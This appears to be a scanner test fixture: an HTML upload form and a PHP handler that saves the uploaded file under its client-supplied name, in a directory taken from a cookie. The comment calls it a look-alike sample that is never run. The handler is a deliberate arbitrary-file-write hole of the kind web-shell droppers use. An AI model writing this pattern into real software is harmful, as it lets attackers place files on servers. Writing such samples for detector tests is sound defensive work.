<form enctype="multipart/form-data" method="post"><input type="file" name="x"></form>
<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A one-line helper names the destination from a cookie.
function dest_of($n) { return $_COOKIE['home'] . DIRECTORY_SEPARATOR . $n; }
$fn = $_FILES['x']['name'];
move_uploaded_file($_FILES['x']['tmp_name'], dest_of($fn));
